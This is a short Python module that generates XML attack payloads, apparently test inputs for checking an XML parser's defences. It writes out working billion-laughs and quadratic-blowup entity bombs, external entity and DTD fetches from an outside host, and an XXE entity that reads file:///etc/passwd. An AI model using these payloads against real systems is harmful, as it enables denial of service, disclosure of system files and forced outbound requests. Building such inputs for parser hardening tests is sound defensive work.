"""XML that does harm to who reads it as XML allows: of each the document type, and what to put inside the document."""


def laughs(levels, each=10):
    """An entity of many, each of which is one of many: `each` to the power of `levels` times three letters."""
    entities = ['<!ENTITY l0 "ha!">']
    entities += [f'<!ENTITY l{n + 1} "{f"&l{n};" * each}">' for n in range(levels)]
    return f"<!DOCTYPE response [{''.join(entities)}]>", f"&l{levels};"


def blowup(letters=50_000):
    """One long entity, so often that its length is squared."""
    return f'<!DOCTYPE response [<!ENTITY b "{"b" * letters}">]>', "&b;" * letters


def fetching(url):
    """An entity that is fetched, from a host or a file."""
    return f'<!DOCTYPE response [<!ENTITY f SYSTEM "{url}">]>', "&f;"


BOMBS = {
    "a billion laughs": lambda _: laughs(9),
    "some laughs": lambda _: laughs(5),
    "a quadratic blowup": lambda _: blowup(),
    "an entity of a stranger": lambda stranger: fetching(f"{stranger}/entity"),
    "a document type of a stranger": lambda stranger: (f'<!DOCTYPE response SYSTEM "{stranger}/type">', ""),
    "a parameter of a stranger": lambda stranger: (
        f'<!DOCTYPE response [<!ENTITY % p SYSTEM "{stranger}/parameter"> %p;]>',
        "",
    ),
    "an entity of a file": lambda _: fetching("file:///etc/passwd"),
}
"""By their names, each of the origin of a stranger, who is never to be asked."""
